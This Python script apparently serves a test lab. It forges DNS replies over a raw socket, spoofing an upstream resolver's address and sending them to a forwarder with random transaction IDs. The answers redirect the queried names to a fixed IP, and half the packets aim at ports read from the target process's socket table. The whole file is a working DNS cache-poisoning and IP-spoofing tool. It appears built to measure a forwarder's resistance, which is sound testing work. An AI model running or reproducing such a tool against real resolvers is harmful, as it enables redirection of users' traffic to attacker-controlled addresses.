"""Forges an upstream's replies, by a raw socket: its address and port as source, to a forwarder's ports, with IDs drawn at random
and the right question in lower case. Run by off-path-forgery.lab.ts until it is told to end; then says how many it sent.

    forge-replies.py SOURCE TARGET PROCESS NAME COUNT PER_SECOND

Nobody off the path knows the ports: here every other reply goes to one that is in use, read from PROCESS's table of sockets, and
the others to any port of the range that the kernel draws from. `*` in NAME stands for 0 … COUNT − 1.
"""

import json
import random
import signal
import socket
import struct
import sys
import time

source, target, process, name, count, per_second = sys.argv[1:]
PORT = 53
FORGED_ADDRESS = "203.0.113.66"
BATCH = 100

ending = False


def end(*_):
    global ending
    ending = True


signal.signal(signal.SIGTERM, end)


def read_ports():
    """The local ports of the sockets that are connected to the source."""
    remote = "%08X:%04X" % (struct.unpack("=I", socket.inet_aton(source))[0], PORT)
    with open(f"/proc/{process}/net/udp") as table:
        rows = [line.split() for line in table][1:]
    return [int(row[1].split(":")[1], 16) for row in rows if row[2] == remote]


def forge(text):
    """A reply without its ID: QR, RD, RA, one question, one address for an hour."""
    labels = b"".join(bytes([len(label)]) + label.encode() for label in text.split("."))
    question = labels + b"\0" + struct.pack("!HH", 1, 1)
    record = struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(FORGED_ADDRESS)
    return struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + question + record


with open("/proc/sys/net/ipv4/ip_local_port_range") as limits:
    first_port, last_port = map(int, limits.read().split())
replies = [forge(name.replace("*", str(i))) for i in range(int(count))]
addresses = socket.inet_aton(source) + socket.inet_aton(target)
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
sent = {"ports in use": 0, "any port": 0}
ports = []
started = time.monotonic()
while not ending:
    # Ports come and go: each is replaced after a number of strays.
    ports = read_ports()
    for i in range(BATCH):
        is_known = i % 2 == 0 and len(ports) > 0
        port = random.choice(ports) if is_known else random.randint(first_port, last_port)
        message = struct.pack("!H", random.getrandbits(16)) + random.choice(replies)
        length = 28 + len(message)
        header = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0, 64, socket.IPPROTO_UDP, 0) + addresses
        udp = struct.pack("!HHHH", PORT, port, 8 + len(message), 0)
        raw.sendto(header + udp + message, (target, 0))
        sent["ports in use" if is_known else "any port"] += 1
    ahead = sum(sent.values()) / float(per_second) - (time.monotonic() - started)
    if ahead > 0:
        time.sleep(ahead)
print(json.dumps(sent), flush=True)
